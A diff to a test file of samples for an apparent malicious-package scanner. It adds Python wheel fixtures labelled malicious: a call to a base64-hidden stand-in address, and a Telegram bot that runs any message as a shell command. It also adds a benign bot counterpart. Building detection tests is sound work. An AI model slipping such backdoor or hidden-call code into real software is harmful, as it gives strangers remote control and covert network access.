@@ -1,6 +1,6 @@
 import { gzipSync } from 'node:zlib';
 import type { Samples } from '../contract.ts';
-import { hide, imported, installed, quiet } from '../samples-kit.ts';
+import { hide, imported, installed, quiet, wheel } from '../samples-kit.ts';
 
 const PAYLOAD = "require('child_process').exec('id > /dev/null')";
 
@@ -14,6 +14,20 @@ const CODES = Array.from(PAYLOAD)
 
 export const samples: Samples = {
   malicious: [
+    {
+      name: 'Python: a request to a hidden address',
+      files: wheel(
+        'import base64, requests\ndef ping():\n    requests.get(base64.b64decode("aHR0cHM6Ly9hcGkud2Vpci50ZXN0L3g=").decode())\n',
+      ),
+      expected: [{ rule: 'hidden-address', file: 'own/__init__.py', line: 3, severity: 'high' }],
+    },
+    {
+      name: 'Python: a bot that runs what it is told',
+      files: wheel(
+        'import subprocess, telebot\nbot = telebot.TeleBot(KEY)\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    bot.reply_to(message, subprocess.check_output(message.text, shell=True))\n',
+      ),
+      expected: [{ rule: 'remote-command', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
     {
       name: 'a command from a server',
       files: installed(
@@ -134,6 +148,12 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'Python: a bot that runs a program of its own',
+      wheel(
+        'import subprocess, telebot\ndef start(key):\n    bot = telebot.TeleBot(key)\n    @bot.message_handler(commands=["up"])\n    def up(message):\n        bot.reply_to(message, subprocess.check_output(["uptime"]))\n',
+      ),
+    ),
     quiet(
       'a tool asked for the newest version',
       installed(
